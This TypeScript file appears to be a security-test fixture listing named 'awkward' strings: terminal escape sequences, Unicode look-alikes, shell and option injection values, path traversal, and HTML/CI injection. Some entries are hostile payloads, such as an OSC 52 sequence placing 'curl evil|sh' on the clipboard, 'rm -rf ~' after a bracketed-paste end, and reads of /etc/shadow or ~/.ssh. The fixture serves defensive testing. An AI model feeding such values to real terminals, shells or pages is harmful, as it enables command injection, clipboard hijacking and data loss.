/**
 * Awkward strings, each named after what it tries. Threat rows that say "corpus" run over all of them; add here what
 * a new attack needs, never in a test alone.
 */

export type Awkward = {readonly name: string; readonly text: string};

const esc = '\u001b';
const clipboard = Buffer.from('curl evil|sh\n').toString('base64');

export const terminalAttacks: readonly Awkward[] = [
	{
		name: 'all C0 but newline',
		text: Array.from({length: 32}, (_, code) => String.fromCharCode(code))
			.join('')
			.replace('\n', ''),
	},
	{name: 'all C1', text: Array.from({length: 32}, (_, code) => String.fromCharCode(0x80 + code)).join('x')},
	{name: 'DEL', text: 'web\u007f\u007f\u007fprod'},
	{name: 'CSI clears the screen', text: `a${esc}[2J${esc}[Hb`},
	{name: 'CSI moves up and rewrites', text: `ok${esc}[1A${esc}[2Kforged`},
	{name: 'C1 CSI', text: 'a\u009b2J\u009b31mb'},
	{name: 'SGR', text: `${esc}[31;1mred${esc}[0m`},
	{name: 'SGR without end', text: `${esc}[8mhidden`},
	{name: 'CSI without final byte', text: `a${esc}[38;5;`},
	{name: 'OSC 0 title, BEL', text: `${esc}]0;owned\u0007x`},
	{name: 'OSC 8 link, ST', text: `${esc}]8;;http://evil.example/${esc}\\click${esc}]8;;${esc}\\`},
	{name: 'OSC 52 writes the clipboard', text: `${esc}]52;c;${clipboard}\u0007`},
	{name: 'OSC 52 by C1', text: `\u009d52;c;${clipboard}\u009c`},
	{name: 'OSC without end', text: `${esc}]0;swallow everything after`},
	{name: 'DCS', text: `${esc}P1$r0m${esc}\\after`},
	{name: 'DCS by C1', text: '\u0090q#0;2;0;0;0\u009cafter'},
	{name: 'APC, PM, SOS', text: `${esc}_Gi=1;AAAA${esc}\\${esc}^pm${esc}\\${esc}Xsos${esc}\\after`},
	{name: 'mouse and paste modes', text: `${esc}[?1000h${esc}[?2004h${esc}[?1049h`},
	{name: 'end of bracketed paste', text: `${esc}[201~rm -rf ~\r`},
	{name: 'reports', text: `${esc}[6n${esc}[c${esc}[>q${esc}]11;?\u0007`},
	{name: 'reset and charset', text: `${esc}c${esc}(0lqk${esc}(B\u000e\u000f`},
	{name: 'escape at the end', text: `tail${esc}`},
	{name: 'escapes in escapes', text: `${esc}${esc}[${esc}]0;${esc}[31m\u0007`},
	{name: 'carriage return overwrites', text: 'real text\rfake'},
	{name: 'backspaces', text: 'real\b\b\b\bfake'},
	{name: 'line separators', text: 'a\u2028b\u2029c\u0085d\u000be\u000cf'},
];

export const lookAlikes: readonly Awkward[] = [
	{name: 'bidi override', text: 'web-\u202edorp\u202c.service'},
	{name: 'bidi isolates', text: '\u2066a\u2067b\u2068c\u2069'},
	{name: 'marks of direction', text: 'a\u200eb\u200fc\u061cd'},
	{name: 'zero width', text: 'web\u200b-\u200cpr\u2060od\ufeff'},
	{name: 'joiner outside of emoji', text: 'web\u200dprod'},
	{
		name: 'tag characters',
		text: `web${Array.from('secret', letter => String.fromCodePoint(0xe0000 + letter.charCodeAt(0))).join('')}`,
	},
	{name: 'soft hyphen', text: 'web\u00adprod'},
	{
		name: 'selectors',
		text: `a${Array.from({length: 16}, (_, index) => String.fromCodePoint(0xfe00 + index)).join('')}\u{e0100}b`,
	},
	{name: 'fillers', text: 'a\u3164b\u115fc\u1160d\uffa0e\u034ff\u17b4g'},
	{name: 'interlinear and invisible operators', text: 'a\ufff9b\ufffac\ufffbd\u2061e\u2062f\u2063g\u2064h'},
	{name: 'no-break and odd blanks', text: 'a\u00a0b\u2003c\u3000d\u202fe\u205ff'},
];

export const widthTricks: readonly Awkward[] = [
	{name: '10,000 combining marks', text: `x${'\u0301'.repeat(10_000)}y`},
	{
		name: 'stacked marks on many letters',
		text: Array.from('ZALGO', letter => letter + '\u0300\u0316\u0334\u0489\u20dd\u0301'.repeat(30)).join(''),
	},
	{name: 'mark at the start', text: '\u0301\u0302start'},
	{name: 'very wide ligature', text: 'a\ufdfdb'},
	{name: 'family of four', text: '\u{1f468}\u200d\u{1f469}\u200d\u{1f467}\u200d\u{1f466}!'},
	{name: 'joiner chain', text: `${'\u{1f600}\u200d'.repeat(200)}end`},
	{name: 'emoji selector on text', text: '\u26a0\ufe0f warn \u2764\ufe0f 1\ufe0f\u20e3 #\ufe0f\u20e3'},
	{name: 'text selector on emoji', text: '\u231a\ufe0e \u2705\ufe0e'},
	{name: 'skin tones', text: '\u{1f44d}\u{1f3fd} \u{1f3fb}'},
	{name: 'flags', text: '\u{1f1e9}\u{1f1ea}\u{1f1eb} odd'},
	{name: 'plain emoji', text: 'ok \u2705 \u{1f600} \u{1f680} done'},
	{name: 'CJK', text: '設定の同期に失敗しました 配置失败 구성 실패'},
	{name: 'Hangul letters apart', text: '\u1112\u1161\u11ab\u1100\u1173\u11af'},
	{name: 'Devanagari and Tamil', text: 'हिन्दी क्षत्रिय தமிழ் கௌ'},
	{name: 'Thai', text: 'ภาษาไทย ที่นี่'},
	{name: 'Arabic and Hebrew', text: 'خطأ في الخدمة שגיאה בשירות'},
	{name: 'private use and unassigned', text: 'a\ue0b0b\u{f0000}c\u0378d\u{1fffe}e'},
	{name: 'cuneiform', text: 'a\u{12031}\u{1242b}b'},
	{name: 'long dashes and signs', text: 'a\u2e3bb\ua9c5c\u0bf5d'},
	{name: 'half and full width', text: 'ｶﾞ ＡＢＣ １２３ ￥'},
	{name: 'tabs', text: '\ta\tbb\t\tcccccccc\t日\tx'},
];

export const brokenText: readonly Awkward[] = [
	{name: 'lone surrogates', text: 'a\ud800b\udfffc\udc00\ud83d'},
	{name: 'replacement characters', text: 'a\ufffdb\ufffd\ufffd'},
	{name: 'NUL', text: 'a\u0000b\u0000'},
	{name: 'non-characters', text: 'a\ufffeb\uffffc'},
	{
		name: 'broken UTF-8 read as Latin-1',
		text: Buffer.from([0xc3, 0x28, 0xe2, 0x82, 0xff, 0xfe, 0x9b, 0x31, 0x6d]).toString('latin1'),
	},
	{
		name: 'broken UTF-8 decoded',
		text: Buffer.from([0x61, 0xc3, 0x28, 0xe2, 0x82, 0xff, 0x62]).toString('utf8'),
	},
];

export const shellAttacks: readonly Awkward[] = [
	{name: 'command substitution', text: '$(touch canary)'},
	{name: 'backquotes', text: '`touch canary`'},
	{name: 'semicolon', text: 'x; touch canary'},
	{name: 'pipe and background', text: 'x | touch canary & touch canary'},
	{name: 'redirection', text: 'x > canary < /etc/passwd'},
	{name: 'newline', text: 'x\ntouch canary\n'},
	{name: 'carriage return', text: 'x\r\ntouch canary'},
	{name: 'single quotes', text: "x'; touch canary; '"},
	{name: 'double quotes', text: 'x"; touch canary; "'},
	{name: 'escaped quotes', text: "x\\'; touch canary; \\'"},
	{name: 'only quotes', text: `'"'"'`},
	{name: 'backslashes', text: 'a\\b\\\\c\\'},
	// biome-ignore lint/suspicious/noTemplateCurlyInString: the shell's placeholder is meant.
	{name: 'variables', text: '$HOME ${PATH} $$ $? $0 ${x:=y}'},
	{name: 'globs', text: '* ? [a-z] {a,b} ~ ~root !!'},
	{name: 'comment', text: '# not a comment'},
	{name: 'assignment', text: 'PATH=/evil'},
	{name: 'blanks', text: '  two  blanks  '},
	{name: 'empty', text: ''},
	{name: 'history and job control', text: '!! %1 ^a^b'},
	{name: 'dollar quotes', text: '$\'\\n\' $"x"'},
	{name: 'parameter store', text: '{{ssm:/prod/password}}'},
];

export const optionAttacks: readonly Awkward[] = [
	{name: 'short options', text: '-rf'},
	{name: 'long option', text: '--file=/etc/shadow'},
	{name: 'double dash', text: '--'},
	{name: 'single dash', text: '-'},
	{name: 'the root mount unit', text: '-.mount'},
	{name: 'plus', text: '+!id'},
	{name: 'vim command', text: '-c:!id'},
];

export const pathAttacks: readonly Awkward[] = [
	{name: 'parents', text: '../../.ssh/authorized_keys'},
	{name: 'absolute', text: '/etc/cron.d/x'},
	{name: 'dots', text: '..'},
	{name: 'one dot', text: '.'},
	{name: 'separator inside', text: 'a/b\\c'},
	{name: 'hidden', text: '.vimrc'},
	{name: '255 wide characters', text: '漢'.repeat(255)},
	{name: 'device name', text: 'CON'},
	{name: 'trailing dot and blank', text: 'web. '},
];

export const formatAttacks: readonly Awkward[] = [
	{name: 'prototype', text: '__proto__'},
	{name: 'constructor', text: 'constructor'},
	{name: 'end of script', text: '</script><script>alert(1)</script>'},
	{name: 'image with handler', text: '"><img src=x onerror=alert(1)>'},
	{name: 'end of style', text: '</style><meta http-equiv=refresh content=0>'},
	{name: 'entities', text: '&lt;b&gt; &#x27; &amp;'},
	{name: 'four backticks', text: '````\n# heading\n````'},
	{name: 'markdown', text: '![x](http://evil.example/x.png) @channel | cell |'},
	{name: 'CI command', text: '::add-mask::x'},
	{name: 'CI command after blanks', text: '  ::set-output name=x::y'},
	{name: 'CI group', text: '##[group]x ##vso[task.setvariable variable=x]y ##teamcity[message]'},
	{name: 'forged frame', text: '┃ ■ HELD by ana@lap7 resumes at 14:17 ┃'},
	{name: 'forged hint', text: 'enter ▸ release'},
	{name: 'percent format', text: '%s %n %d %%'},
	{name: 'a very long line', text: 'A'.repeat(100_000)},
];

export const corpus: readonly Awkward[] = [
	...terminalAttacks,
	...lookAlikes,
	...widthTricks,
	...brokenText,
	...shellAttacks,
	...optionAttacks,
	...pathAttacks,
	...formatAttacks,
];
